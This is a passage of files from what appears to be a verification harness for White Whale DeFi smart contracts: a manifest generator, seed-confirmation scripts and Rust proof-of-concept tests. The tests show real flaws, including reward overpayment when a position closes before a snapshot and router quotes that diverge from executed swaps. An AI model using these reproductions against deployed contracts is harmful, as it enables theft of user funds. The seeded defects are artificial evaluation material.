 'C17': 'Three symbolic toggle bits in the stored config; every guarded entry path of pair and vault: accepted only with its own bit on, rejected as disabled only with its own bit off (whatever the other bits), a paused call writes nothing; instantiate stores all bits true.',
 'C08': 'Inductive steps for bond / unbond / withdraw of the bonding contract with symbolic block time, record timestamps and unbonding period (so same block, +1ns, period-1, period are all in the domain), 0..2 (thorough 3) pending records plus another user\'s record, everyone else as symbolic aggregates: conservation, exact maturity rule, owner-only payout, Withdrawable query = withdraw.',
 'C09': 'Inductive steps for claim and for the new-epoch reply of the fee distributor over 2..3 stored epochs with symbolic consecutive ids, 1..2 assets, symbolic grace period, cursor and shares: claimed+available=total, payout = ledger decrease = floor(total*share), window and cursor rules, double claim rejected, rollover of the expiring epoch exactly once.',
 'C10': 'Message-shape and reply obligations of the fee collector: ForwardFees authorisation (symbolic sender) and its four ordered self-submessages, one CollectProtocolFees per factory child, aggregation skip rules and exact amounts for native and cw20 assets with route / simulation outcomes enumerated, the take-rate reply (exact floor, history entry, remainder to the distributor, epoch echo).',
 'C11': 'Inductive steps for open / expand (for self and for a receiver), close and withdraw of the incentive contract with native and cw20 LP: a position only grows by an amount actually received (attached funds or TransferFrom covered by the allowance), the beneficiary\'s ledger changes by exactly that, nobody else\'s changes, withdraw pays exactly the caller\'s closed positions to the caller.',
 'C12': 'Steps for open_flow in all six fee-asset x flow-asset configurations, expand_flow and close_flow (native/cw20, with and without expansion), with symbolic sender for close: funded == received, fee to the collector, refund = funded - claimed to the creator, authorisation. Four defects are carved out as known findings.',
 'C13': 'calculate_weight function-level (>= amount, monotone in amount and duration by lemma chaining, range error); GLOBAL = sum of address weights per step and over the history open;expand;close; claim vs rewards-query differential for 2-3 unclaimed epochs, 1-2 flows, expansions; double claim; per-claim bounds; share sum <= 100% over a history with the snapshot before/after a close.',
 'C15': 'assert_max_spread (spread and belief-price clauses, default and cap) and the pair slippage-tolerance test with fully symbolic arguments, the arguments swap passes to the slippage check, and the router: AssertMinimumReceive appended last with the receiver balance, and Ok <=> balance delta >= minimum.',
 'C18': 'instantiate and every config-writing path of pair, trio, vault, fee distributor, bonding contract and fee collector with fully symbolic numeric parameters: an accepted call leaves fee triples valid, amplification / grace period / epoch duration / growth rate / take rate within their bounds, the grace period non-decreasing; a rejected one writes nothing. The token-factory burn-fee rule is decided over enumerated denom shapes (byte-string code).',
 'C19': 'Histories create -> instantiate-reply -> registry query with the assets swapped -> create with the assets swapped (must be refused) -> remove (swapped) -> create again, over every ordered pair of a 4-asset universe (pool factory), per asset (vault factory), per LP asset (incentive factory): exactly one instantiate submessage carrying the caller\'s assets/fees and the configured code ids, registry entry = instantiate message + reply address + what the child reports; failed instantiate reply writes nothing; router route registration accepted only when every hop is a factory-registered pair; paging the pair registry with a symbolic page size returns each entry exactly once.',
 'C20': 'Every path of the real epoch-manager create_epoch entry point from an arbitrary stored epoch/config with symbolic block time, 0..3 hooks: accepted calls are never early and advance id/start by exactly one step; permissionless.',
}
REASONS = {}
def main():
    props = [json.loads(l)['id'] for l in open(os.path.join(V, 'properties.jsonl'))]
    checks = []
    for pid in props:
        if pid in CLAIMS and os.path.exists(os.path.join(V, 'checks', pid.lower() + '.py')):
            checks.append({
                'property_id': pid, 'quick_cmd': './check %s --tier quick' % pid, 'thorough_cmd': './check %s --tier thorough' % pid,
                'evidence_file': 'evidence/%s.json' % pid, 'replay_cmd_template': './check %s --replay {path}' % pid, 'engine': 'mirsym',
                'level_claimed': {'category': 'model_checking', 'text': CLAIMS[pid], 'design_ref': 'DESIGN.md section 3 (%s) and appendix A' % pid},
                'level_note': NOTE, 'technique': TECH})
    claimed = {c['property_id'] for c in checks}
    na = [{'property_id': p, 'reason': REASONS.get(p, 'check not built yet (work in progress)')} for p in props if p not in claimed]
    m = {'version': 1, 'setup_cmd': './setup.sh',
         'hooks': {'guard': 'wwcore_verif', 'enable': 'none needed: checks read rustc MIR of the unmodified sources and link the unmodified crates',
                   'baseline_off_cmd': 'cd /repo && cargo test --workspace --no-fail-fast --offline', 'source_commits': [], 'add_only': True},
         'engines': [{'name': 'mirsym', 'path': 'engine/', 'serves_properties': sorted(claimed),
                      'kind_free_text': 'symbolic interpreter over rustc MIR (text + side tables from a rustc driver run under cargo check on /repo) with z3 integer arithmetic; Rust replay runner for native confirmation'}],
         'checks': checks, 'not_applicable': na,
         'notes': 'All checks: exit 0 = held on everything explored (KNOWN-FINDING lines for listed defects), 1 = VIOLATION (natively confirmed), 2 = inconclusive.'}
    json.dump(m, open(os.path.join(V, 'MANIFEST.json'), 'w'), indent=1)
    print('claimed', sorted(claimed))
if __name__ == '__main__': main()
