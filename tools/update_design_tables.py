#!/usr/bin/env python3
"""Replaces the seeded-changes table of DESIGN.md 6.3 (and the exit codes of the 6.4 table) by the recorded runs."""
import json, glob, os, re, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import seeds
V = '/verif'
s = open(V + '/DESIGN.md').read()
a = s.index("| seed | change (agent's summary, shortened)")
b = s.index("### 6.4 Behaviour-preserving changes")
s = s[:a] + seeds.mdtable() + "\n\n" + s[b:]
# 6.4: result column from the recorded exit codes
def repl(m):
    bid = m.group(1)
    try: ex = json.load(open('%s/benign/%s/meta.json' % (V, bid))).get('checks_exit', {})
    except Exception: return m.group(0)
    if not ex: return m.group(0)
    cells = m.group(0).split(' | ')
    res = 'all exit 0' if all(v == 0 for v in ex.values()) else ', '.join('%s exit %s' % (c, v) for c, v in ex.items() if v != 0)
    cells[-2] = ' '.join(sorted(ex)); cells[-1] = res + ' |'
    return ' | '.join(cells)
s = re.sub(r"^\| (B\d-\d) \|.*\|$", repl, s, flags=re.M)
open(V + '/DESIGN.md', 'w').write(s)
print('tables updated')
