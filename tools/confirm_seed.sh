#!/bin/bash
# confirm_seed.sh <worktree> <k> : verifies a seeded change in its scratch worktree:
#   demo passes without the patch, fails with it, and the existing workspace tests pass with it.
wt=$1; k=$2; d=$wt/seeded/$k
cd $wt || exit 9
export CARGO_TARGET_DIR=$wt/target CARGO_NET_OFFLINE=true
git checkout -q -- . ; git clean -fdq -- contracts packages 2>/dev/null
cmd=$(python3 -c "import json;print(json.load(open('$d/meta.json'))['demo_cmd'])")
echo "== demo without patch"; (eval "$cmd") > $d/confirm_nopatch.log 2>&1; a=$?; tail -3 $d/confirm_nopatch.log
git apply $d/patch.diff || { echo "PATCH DOES NOT APPLY"; exit 8; }
echo "== demo with patch"; (eval "$cmd") > $d/confirm_patch.log 2>&1; b=$?; tail -3 $d/confirm_patch.log
echo "== existing tests with patch"; rm -rf $(git ls-files --others --exclude-standard -- contracts packages | grep -v "^seeded" ) 2>/dev/null
cargo test --workspace --no-fail-fast --offline > $d/confirm_suite.log 2>&1; c=$?
grep -E "^test result|FAILED|failed" $d/confirm_suite.log | grep -v "0 failed" | head -5
git checkout -q -- . ; git clean -fdq -- contracts packages 2>/dev/null
echo "RESULT demo_without=$a demo_with=$b suite_with=$c"
[ $a -eq 0 ] && [ $b -ne 0 ] && [ $c -eq 0 ] && echo CONFIRMED || echo NOT-CONFIRMED
