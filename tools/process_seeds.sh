#!/bin/bash
# process_seeds.sh <ID> <checks...>: confirm both seeded changes of /tmp/wt-<ID>, run the checks against them, store under /verif/seeded/
id=$1; shift; checks="$@"
wt=/tmp/wt-$id
for k in 1 2; do
  [ -f $wt/seeded/$k/patch.diff ] || continue
  out=/verif/seeded/$id-$k; mkdir -p $out
  /verif/tools/confirm_seed.sh $wt $k > $out/confirm.log 2>&1
  cp $wt/seeded/$k/patch.diff $out/patch.diff; cp -r $wt/seeded/$k/demo $out/ 2>/dev/null; cp $wt/seeded/$k/meta.json $out/agent_meta.json
  echo "$id-$k: $(tail -2 $out/confirm.log | tr '\n' ' ')"
done
