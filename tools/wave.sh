#!/bin/bash
# wave.sh <PID> [k...]: confirm the seeds <PID>-k of /tmp/wt-<PID> (default k = 7 8) and print the result; lanes are run separately
pid=$1; shift; ks=${@:-7 8}
for k in $ks; do python3 /verif/tools/seeds.py confirm $pid-$k; done
