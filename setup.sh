#!/bin/bash
# Builds the framework from files on disk only (offline): the rustc driver, the dependency build of the MIR target dir,
# and a first MIR dump of every crate.
set -e
cd "$(dirname "$0")"
export CARGO_NET_OFFLINE=true
mkdir -p .cache/bin .cache/mir evidence replays
python3-vt - <<'PY'
import sys
sys.path.insert(0, '.')
from engine import frontend
frontend.build_driver(force=True)
s = frontend.regenerate(list(frontend.PACKAGES))
print('MIR regenerated for %d crates in %.1fs' % (len(frontend.PACKAGES), s))
from engine import replay
print('replay runner:', replay.build_runner())
PY
