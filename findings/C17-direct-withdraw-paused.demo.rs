#![cfg(feature = "osmosis_token_factory")]
use cosmwasm_std::testing::{mock_env, mock_info, MOCK_CONTRACT_ADDR};
use cosmwasm_std::{Coin, Decimal, Uint128};
use terraswap_pair::contract::{execute, instantiate};
use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{AssetInfo, PairType};
use white_whale_std::pool_network::mock_querier::mock_dependencies;
use white_whale_std::pool_network::pair::{ExecuteMsg, FeatureToggle, InstantiateMsg, PoolFee};

#[test]
fn paused_withdrawals_are_refused_on_the_direct_path() {
    let lp_denom = format!("factory/{MOCK_CONTRACT_ADDR}/uLP");
    let mut deps = mock_dependencies(&[
        Coin { denom: "uusd".to_string(), amount: Uint128::from(2000u128) },
        Coin { denom: "uwhale".to_string(), amount: Uint128::from(2000u128) },
        Coin { denom: lp_denom.clone(), amount: Uint128::from(1000u128) },
    ]);
    deps.querier.with_balance(&[(
        &"addr0000".to_string(),
        vec![Coin { denom: lp_denom.clone(), amount: Uint128::from(1000u128) }],
    )]);
    let msg = InstantiateMsg {
        asset_infos: [
            AssetInfo::NativeToken { denom: "uusd".to_string() },
            AssetInfo::NativeToken { denom: "uwhale".to_string() },
        ],
        token_code_id: 10u64,
        asset_decimals: [6u8, 8u8],
        pool_fees: PoolFee {
            protocol_fee: Fee { share: Decimal::percent(1u64) },
            swap_fee: Fee { share: Decimal::percent(1u64) },
            burn_fee: Fee { share: Decimal::zero() },
        },
        fee_collector_addr: "collector".to_string(),
        pair_type: PairType::ConstantProduct,
        token_factory_lp: true,
    };
    instantiate(deps.as_mut(), mock_env(), mock_info("addr0000", &[]), msg).unwrap();
    // the owner pauses withdrawals
    execute(
        deps.as_mut(),
        mock_env(),
        mock_info("addr0000", &[]),
        ExecuteMsg::UpdateConfig {
            owner: None,
            fee_collector_addr: None,
            pool_fees: None,
            feature_toggle: Some(FeatureToggle { withdrawals_enabled: false, deposits_enabled: true, swaps_enabled: true }),
        },
    )
    .unwrap();
    let res = execute(
        deps.as_mut(),
        mock_env(),
        mock_info("addr0000", &[Coin { denom: lp_denom, amount: Uint128::from(1000u128) }]),
        ExecuteMsg::WithdrawLiquidity {},
    );
    match res {
        Err(e) => assert!(e.to_string().contains("disabled"), "unexpected error {e}"),
        Ok(r) => panic!("paused withdrawal was not refused: {} messages", r.messages.len()),
    }
}
