//! C13, behaviour of the UNCHANGED tree: a position closed in a new epoch before that epoch's
//! (permissionless) global-weight snapshot is taken lowers the snapshot, while the closing user's
//! weight for that epoch is still the old one. The shares of the epoch then add up to more than
//! 100% and the claims of the epoch pay out more than the epoch's emission.
//!
//! Install as contracts/liquidity_hub/pool-network/incentive/tests/c13_close_before_snapshot.rs and
//! run `cargo test -p incentive --offline --test c13_close_before_snapshot`; it FAILS on the
//! unchanged tree.

#![allow(dead_code)]

use std::cell::Cell;
use std::rc::Rc;

use cosmwasm_std::testing::{
    mock_dependencies, mock_env, mock_info, MockApi, MockQuerier, MockStorage,
};
use cosmwasm_std::{
    coin, coins, from_json, to_json_binary, Addr, BankMsg, ContractResult, CosmosMsg, Decimal256,
    OwnedDeps, Response, SystemResult, Timestamp, Uint128, Uint64, WasmQuery,
};

use incentive::contract::{execute, instantiate, query};
use white_whale_std::fee_distributor::{Epoch, EpochResponse};
use white_whale_std::pool_network::asset::{Asset, AssetInfo};
use white_whale_std::pool_network::incentive::{
    ExecuteMsg, InstantiateMsg, QueryMsg, RewardsResponse, RewardsShareResponse,
};
use white_whale_std::pool_network::incentive_factory;
use white_whale_std::whale_lair::GlobalIndex;

const FACTORY: &str = "factory";
const DISTRIBUTOR: &str = "fee_distributor";
const LP: &str = "factory/pool/ulp";
const REWARD: &str = "ureward";
const FEE: &str = "uwhale";

type Deps = OwnedDeps<MockStorage, MockApi, MockQuerier>;

struct World {
    deps: Deps,
    epoch: Rc<Cell<u64>>,
}

impl World {
    fn new(start_epoch: u64) -> Self {
        let mut deps = mock_dependencies();
        let epoch = Rc::new(Cell::new(start_epoch));
        let epoch_q = epoch.clone();
        deps.querier.update_wasm(move |q| match q {
            WasmQuery::Smart { contract_addr, .. } if contract_addr == FACTORY => {
                SystemResult::Ok(ContractResult::Ok(
                    to_json_binary(&incentive_factory::Config {
                        owner: Addr::unchecked("owner"),
                        fee_collector_addr: Addr::unchecked("fee_collector"),
                        fee_distributor_addr: Addr::unchecked(DISTRIBUTOR),
                        create_flow_fee: Asset {
                            info: AssetInfo::NativeToken {
                                denom: FEE.to_string(),
                            },
                            amount: Uint128::new(1_000),
                        },
                        max_concurrent_flows: 5,
                        incentive_code_id: 1,
                        max_flow_epoch_buffer: 14,
                        min_unbonding_duration: 86_400,
                        max_unbonding_duration: 31_556_926,
                    })
                    .unwrap(),
                ))
            }
            WasmQuery::Smart { contract_addr, .. } if contract_addr == DISTRIBUTOR => {
                SystemResult::Ok(ContractResult::Ok(
                    to_json_binary(&EpochResponse {
                        epoch: Epoch {
                            id: Uint64::new(epoch_q.get()),
                            start_time: Timestamp::from_seconds(0),
                            total: vec![],
                            available: vec![],
                            claimed: vec![],
                            global_index: GlobalIndex::default(),
                        },
                    })
                    .unwrap(),
                ))
            }
            _ => panic!("unexpected query"),
        });

        instantiate(
            deps.as_mut(),
            mock_env(),
            mock_info(FACTORY, &[]),
            InstantiateMsg {
                lp_asset: AssetInfo::NativeToken {
                    denom: LP.to_string(),
                },
                fee_distributor_address: DISTRIBUTOR.to_string(),
            },
        )
        .unwrap();

        let mut w = World { deps, epoch };
        // the submessage instantiate emits
        w.snapshot();
        w
    }

    fn exec(&mut self, sender: &str, funds: &[cosmwasm_std::Coin], msg: ExecuteMsg) -> Response {
        execute(self.deps.as_mut(), mock_env(), mock_info(sender, funds), msg).unwrap()
    }

    fn snapshot(&mut self) {
        self.exec("anyone", &[], ExecuteMsg::TakeGlobalWeightSnapshot {});
    }

    fn next_epoch(&mut self) {
        self.epoch.set(self.epoch.get() + 1);
    }

    fn open_flow(&mut self, amount: u128, start: u64, end: u64) {
        self.exec(
            "creator",
            &[coin(amount, REWARD), coin(1_000, FEE)],
            ExecuteMsg::OpenFlow {
                start_epoch: Some(start),
                end_epoch: Some(end),
                curve: None,
                flow_asset: Asset {
                    info: AssetInfo::NativeToken {
                        denom: REWARD.to_string(),
                    },
                    amount: Uint128::new(amount),
                },
                flow_label: None,
            },
        );
    }

    fn open(&mut self, who: &str, amount: u128, duration: u64) {
        self.exec(
            who,
            &coins(amount, LP),
            ExecuteMsg::OpenPosition {
                amount: Uint128::new(amount),
                unbonding_duration: duration,
                receiver: None,
            },
        );
    }

    fn expand(&mut self, who: &str, amount: u128, duration: u64) {
        self.exec(
            who,
            &coins(amount, LP),
            ExecuteMsg::ExpandPosition {
                amount: Uint128::new(amount),
                unbonding_duration: duration,
                receiver: None,
            },
        );
    }

    fn close(&mut self, who: &str, duration: u64) {
        self.exec(
            who,
            &[],
            ExecuteMsg::ClosePosition {
                unbonding_duration: duration,
            },
        );
    }

    fn share(&self, who: &str) -> RewardsShareResponse {
        from_json(
            query(
                self.deps.as_ref(),
                mock_env(),
                QueryMsg::CurrentEpochRewardsShare {
                    address: who.to_string(),
                },
            )
            .unwrap(),
        )
        .unwrap()
    }

    fn quoted(&self, who: &str) -> u128 {
        let r: RewardsResponse = from_json(
            query(
                self.deps.as_ref(),
                mock_env(),
                QueryMsg::Rewards {
                    address: who.to_string(),
                },
            )
            .unwrap(),
        )
        .unwrap();
        r.rewards.iter().map(|a| a.amount.u128()).sum()
    }

    fn claim(&mut self, who: &str) -> u128 {
        let res = self.exec(who, &[], ExecuteMsg::Claim {});
        res.messages
            .iter()
            .map(|m| match &m.msg {
                CosmosMsg::Bank(BankMsg::Send { to_address, amount }) => {
                    assert_eq!(to_address, who);
                    amount.iter().map(|c| c.amount.u128()).sum::<u128>()
                }
                _ => panic!("unexpected message"),
            })
            .sum()
    }
}

const DAY: u64 = 86_400;

#[test]
fn close_before_the_snapshot_of_the_epoch() {
    let mut w = World::new(10);
    w.open("alice", 1_000, DAY);
    w.open("bob", 1_000, DAY);
    w.open("carol", 1_000, DAY);
    // 10 epochs, 1_000 per epoch
    w.open_flow(10_000, 11, 21);

    w.next_epoch(); // 11
    w.snapshot();
    for u in ["alice", "bob", "carol"] {
        assert_eq!(w.claim(u), 333);
    }

    w.next_epoch(); // 12
    // alice has no pending rewards (the snapshot of epoch 12 does not exist yet), so she may close
    w.close("alice", DAY);
    // ... and only now the snapshot of epoch 12 is taken: 2_000 instead of 3_000
    w.snapshot();

    let mut total = Decimal256::zero();
    let mut paid = 0;
    for u in ["alice", "bob", "carol"] {
        let s = w.share(u);
        total += s.share;
        let quoted = w.quoted(u);
        let claimed = w.claim(u);
        assert_eq!(quoted, claimed);
        println!("{u}: weight {} / {} -> paid {claimed}", s.address_weight, s.global_weight);
        paid += claimed;
    }
    // unchanged tree: every user has 1_000 / 2_000, the shares add up to 150% and 1_500 is paid for an
    // epoch that emits 1_000
    assert!(total <= Decimal256::one(), "shares of epoch 12 add up to {total}");
    assert!(paid <= 1_000, "{paid} paid for epoch 12, which emits 1_000");
}
