use cosmwasm_std::testing::{mock_dependencies, mock_env, mock_info};
use cosmwasm_std::{from_json, Decimal};
use terraswap_pair::contract::{instantiate, query};
use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{AssetInfo, PairInfo, PairType};
use white_whale_std::pool_network::pair::{InstantiateMsg, PoolFee, QueryMsg};

#[test]
fn stableswap_pair_accepts_any_amp() {
    for amp in [0u64, 1_000_001, u64::MAX] {
        let mut deps = mock_dependencies();
        instantiate(
            deps.as_mut(),
            mock_env(),
            mock_info("factory", &[]),
            InstantiateMsg {
                asset_infos: [
                    AssetInfo::NativeToken { denom: "uusdc".to_string() },
                    AssetInfo::NativeToken { denom: "uusdt".to_string() },
                ],
                token_code_id: 10,
                asset_decimals: [6, 6],
                pool_fees: PoolFee {
                    protocol_fee: Fee { share: Decimal::permille(1) },
                    swap_fee: Fee { share: Decimal::permille(2) },
                    burn_fee: Fee { share: Decimal::zero() },
                },
                fee_collector_addr: "collector".to_string(),
                pair_type: PairType::StableSwap { amp },
                token_factory_lp: false,
            },
        )
        .unwrap();
        let pair: PairInfo =
            from_json(query(deps.as_ref(), mock_env(), QueryMsg::Pair {}).unwrap()).unwrap();
        assert_eq!(pair.pair_type, PairType::StableSwap { amp });
        println!("stored pair type: {:?}", pair.pair_type);
    }
}
