//! Reproduction of two situations in which, on the UNCHANGED tree, the router's
//! SimulateSwapOperations differs from what the receiver gets from ExecuteSwapOperations with the
//! same operations. Install as contracts/liquidity_hub/fee_collector/tests/router_quote_preexisting.rs
//! and run `cargo test -p fee_collector --offline --test router_quote_preexisting`.
//! The tests PASS when the discrepancy is present.

use cosmwasm_std::{coin, coins, Addr, Coin, Decimal, Uint128};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{Asset, AssetInfo, PairInfo, PairType};
use white_whale_std::pool_network::pair::PoolFee;
use white_whale_std::pool_network::router::{
    ExecuteMsg as RouterExecuteMsg, QueryMsg as RouterQueryMsg, SimulateSwapOperationsResponse,
    SwapOperation,
};
use white_whale_std::pool_network::{factory, pair, router};

fn native(denom: &str) -> AssetInfo {
    AssetInfo::NativeToken {
        denom: denom.to_string(),
    }
}

fn op(offer: &str, ask: &str) -> SwapOperation {
    SwapOperation::TerraSwap {
        offer_asset_info: native(offer),
        ask_asset_info: native(ask),
    }
}

struct Suite {
    app: App,
    router: Addr,
    trader: Addr,
    /// the uaaa/ubbb pair
    pair_ab: Addr,
}

fn setup() -> Suite {
    let creator = Addr::unchecked("creator");
    let trader = Addr::unchecked("trader");
    let donor = Addr::unchecked("donor");
    let denoms = ["uaaa", "ubbb", "uccc"];
    let rich = |amount: u128| -> Vec<Coin> { denoms.iter().map(|d| coin(amount, *d)).collect() };

    let mut app = AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|r, _api, storage| {
            for who in [&creator, &trader, &donor] {
                r.bank
                    .init_balance(storage, who, rich(1_000_000_000_000))
                    .unwrap();
            }
        });

    let factory_id = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_factory::contract::execute,
            terraswap_factory::contract::instantiate,
            terraswap_factory::contract::query,
        )
        .with_reply(terraswap_factory::contract::reply),
    ));
    let pair_id = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_pair::contract::execute,
            terraswap_pair::contract::instantiate,
            terraswap_pair::contract::query,
        )
        .with_reply(terraswap_pair::contract::reply),
    ));
    let token_id = app.store_code(Box::new(ContractWrapper::new_with_empty(
        terraswap_token::contract::execute,
        terraswap_token::contract::instantiate,
        terraswap_token::contract::query,
    )));
    let router_id = app.store_code(Box::new(ContractWrapper::new(
        terraswap_router::contract::execute,
        terraswap_router::contract::instantiate,
        terraswap_router::contract::query,
    )));

    let factory = app
        .instantiate_contract(
            factory_id,
            creator.clone(),
            &factory::InstantiateMsg {
                pair_code_id: pair_id,
                trio_code_id: pair_id, // unused here
                token_code_id: token_id,
                fee_collector_addr: "fee_collector".to_string(),
            },
            &[],
            "factory",
            None,
        )
        .unwrap();
    let router = app
        .instantiate_contract(
            router_id,
            creator.clone(),
            &router::InstantiateMsg {
                terraswap_factory: factory.to_string(),
            },
            &[],
            "router",
            None,
        )
        .unwrap();

    for d in denoms {
        app.execute_contract(
            creator.clone(),
            factory.clone(),
            &factory::ExecuteMsg::AddNativeTokenDecimals {
                denom: d.to_string(),
                decimals: 6,
            },
            &coins(1, d),
        )
        .unwrap();
    }

    let mut pair_ab = None;
    for (x, y) in [("uaaa", "ubbb"), ("ubbb", "uccc"), ("uaaa", "uccc")] {
        app.execute_contract(
            creator.clone(),
            factory.clone(),
            &factory::ExecuteMsg::CreatePair {
                asset_infos: [native(x), native(y)],
                pool_fees: PoolFee {
                    protocol_fee: Fee {
                        share: Decimal::permille(1),
                    },
                    swap_fee: Fee {
                        share: Decimal::permille(2),
                    },
                    burn_fee: Fee {
                        share: Decimal::zero(),
                    },
                },
                pair_type: PairType::ConstantProduct,
                token_factory_lp: false,
            },
            &[],
        )
        .unwrap();
        let info: PairInfo = app
            .wrap()
            .query_wasm_smart(
                &factory,
                &factory::QueryMsg::Pair {
                    asset_infos: [native(x), native(y)],
                },
            )
            .unwrap();
        if pair_ab.is_none() {
            pair_ab = Some(Addr::unchecked(info.contract_addr.clone()));
        }
        app.execute_contract(
            creator.clone(),
            Addr::unchecked(info.contract_addr),
            &pair::ExecuteMsg::ProvideLiquidity {
                assets: [
                    Asset {
                        info: native(x),
                        amount: Uint128::new(1_000_000_000),
                    },
                    Asset {
                        info: native(y),
                        amount: Uint128::new(2_000_000_000),
                    },
                ],
                slippage_tolerance: None,
                receiver: None,
            },
            &[coin(1_000_000_000, x), coin(2_000_000_000, y)],
        )
        .unwrap();
    }

    Suite {
        app,
        router,
        trader,
        pair_ab: pair_ab.unwrap(),
    }
}

/// returns (simulated, received)
fn quote_then_execute(s: &mut Suite, offer: u128, ops: Vec<SwapOperation>) -> (Uint128, Uint128) {
    let (offer_denom, target_denom) = match (ops.first().unwrap(), ops.last().unwrap()) {
        (
            SwapOperation::TerraSwap {
                offer_asset_info: AssetInfo::NativeToken { denom: o },
                ..
            },
            SwapOperation::TerraSwap {
                ask_asset_info: AssetInfo::NativeToken { denom: t },
                ..
            },
        ) => (o.clone(), t.clone()),
        _ => unreachable!(),
    };

    let sim: SimulateSwapOperationsResponse = s
        .app
        .wrap()
        .query_wasm_smart(
            &s.router,
            &RouterQueryMsg::SimulateSwapOperations {
                offer_amount: Uint128::new(offer),
                operations: ops.clone(),
            },
        )
        .unwrap();

    let receiver = Addr::unchecked("receiver");
    let before = s
        .app
        .wrap()
        .query_balance(&receiver, &target_denom)
        .unwrap()
        .amount;
    s.app
        .execute_contract(
            s.trader.clone(),
            s.router.clone(),
            &RouterExecuteMsg::ExecuteSwapOperations {
                operations: ops,
                minimum_receive: None,
                to: Some(receiver.to_string()),
                max_spread: Some(Decimal::percent(50)),
            },
            &coins(offer, offer_denom),
        )
        .unwrap();
    let after = s
        .app
        .wrap()
        .query_balance(&receiver, &target_denom)
        .unwrap()
        .amount;
    (sim.amount, after - before)
}

#[test]
fn sanity_distinct_pools_clean_router_quote_is_exact() {
    let mut s = setup();
    let (sim, got) = quote_then_execute(
        &mut s,
        10_000_000,
        vec![op("uaaa", "ubbb"), op("ubbb", "uccc")],
    );
    assert_eq!(sim, got);
    let (sim, got) = quote_then_execute(
        &mut s,
        7_000_000,
        vec![op("uccc", "ubbb"), op("ubbb", "uaaa"), op("uaaa", "uccc")],
    );
    assert_eq!(sim, got);
}

#[test]
fn route_visiting_the_same_pool_twice_is_misquoted() {
    let mut s = setup();
    // uaaa -> ubbb -> uaaa -> uccc : the uaaa/ubbb pool is used by hop 1 and hop 2. The simulation
    // evaluates hop 2 against the pool state BEFORE hop 1, the execution after it.
    let (sim, got) = quote_then_execute(
        &mut s,
        100_000_000,
        vec![op("uaaa", "ubbb"), op("ubbb", "uaaa"), op("uaaa", "uccc")],
    );
    println!("revisit: simulated {sim}, received {got}");
    assert_ne!(sim, got);
}

#[test]
fn stray_router_balance_is_swept_into_the_swap() {
    let mut s = setup();
    // somebody transfers the intermediate asset to the router
    s.app
        .send_tokens(
            Addr::unchecked("donor"),
            s.router.clone(),
            &coins(5_000_000, "ubbb"),
        )
        .unwrap();
    let (sim, got) = quote_then_execute(
        &mut s,
        10_000_000,
        vec![op("uaaa", "ubbb"), op("ubbb", "uccc")],
    );
    println!("stray balance: simulated {sim}, received {got}");
    assert!(got > sim);
}

#[test]
fn pair_swap_with_extra_ask_denom_funds_pays_more_than_quoted() {
    let mut s = setup();
    let offer_asset = Asset {
        info: native("uaaa"),
        amount: Uint128::new(10_000_000),
    };
    let sim: pair::SimulationResponse = s
        .app
        .wrap()
        .query_wasm_smart(
            &s.pair_ab,
            &pair::QueryMsg::Simulation {
                offer_asset: offer_asset.clone(),
            },
        )
        .unwrap();

    let receiver = Addr::unchecked("receiver");
    // the offer is exactly what was quoted, but the sender also attaches some of the ask denom;
    // only the offer denom is checked/subtracted, so the ask pool used by the swap is larger than
    // the one the quote was computed on
    s.app
        .execute_contract(
            s.trader.clone(),
            s.pair_ab.clone(),
            &pair::ExecuteMsg::Swap {
                offer_asset,
                belief_price: None,
                max_spread: Some(Decimal::percent(50)),
                to: Some(receiver.to_string()),
            },
            &[coin(10_000_000, "uaaa"), coin(50_000_000, "ubbb")],
        )
        .unwrap();
    let got = s.app.wrap().query_balance(&receiver, "ubbb").unwrap().amount;
    println!("extra funds: simulated {}, received {got}", sim.return_amount);
    assert!(got > sim.return_amount);
}
