use cosmwasm_std::{coin, Addr, Decimal, Uint128};
use cw_multi_test::{AppBuilder, BankKeeper, ContractWrapper, Executor};
use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{Asset, AssetInfo, PairType};
use white_whale_std::pool_network::pair::{ExecuteMsg, InstantiateMsg, PoolFee};

fn native(d: &str) -> AssetInfo {
    AssetInfo::NativeToken { denom: d.to_string() }
}

#[test]
fn belief_price_inverse_is_truncated() {
    let lp = Addr::unchecked("provider");
    let trader = Addr::unchecked("trader");
    let big = 30_000_000_000_000_000_000_000_000u128; // 3e25 "abig" (18 decimals)
    let small = 100_000_000u128; // 1e8 "usmall"
    let offer = 10_000_000_000_000_000_000u128; // 1e19

    let mut app = AppBuilder::new().with_bank(BankKeeper::new()).build(|r, _a, s| {
        r.bank.init_balance(s, &lp, vec![coin(big, "abig"), coin(small, "usmall")]).unwrap();
        r.bank.init_balance(s, &trader, vec![coin(offer, "abig")]).unwrap();
    });
    let pool_code = app.store_code(Box::new(
        ContractWrapper::new(
            terraswap_pair::contract::execute,
            terraswap_pair::contract::instantiate,
            terraswap_pair::contract::query,
        )
        .with_reply(terraswap_pair::contract::reply),
    ));
    let token_code = app.store_code(Box::new(ContractWrapper::new(
        cw20_base::contract::execute,
        cw20_base::contract::instantiate,
        cw20_base::contract::query,
    )));
    let zero = || Fee { share: Decimal::zero() };
    let pool = app
        .instantiate_contract(
            pool_code,
            lp.clone(),
            &InstantiateMsg {
                asset_infos: [native("abig"), native("usmall")],
                token_code_id: token_code,
                asset_decimals: [18u8, 6u8],
                pool_fees: PoolFee { protocol_fee: zero(), swap_fee: zero(), burn_fee: zero() },
                fee_collector_addr: lp.to_string(),
                pair_type: PairType::ConstantProduct,
                token_factory_lp: false,
            },
            &[],
            "pool",
            None,
        )
        .unwrap();
    app.execute_contract(
        lp.clone(),
        pool.clone(),
        &ExecuteMsg::ProvideLiquidity {
            assets: [
                Asset { info: native("abig"), amount: Uint128::new(big) },
                Asset { info: native("usmall"), amount: Uint128::new(small) },
            ],
            slippage_tolerance: None,
            receiver: None,
        },
        &[coin(big, "abig"), coin(small, "usmall")],
    )
    .unwrap();

    // the trader believes 1 usmall costs 2.7e17 abig, and tolerates 1%:
    // he must get at least 1e19 / 2.7e17 * 0.99 = 36.67 usmall
    let belief_price = Decimal::from_ratio(270_000_000_000_000_000u128, 1u128);
    let res = app.execute_contract(
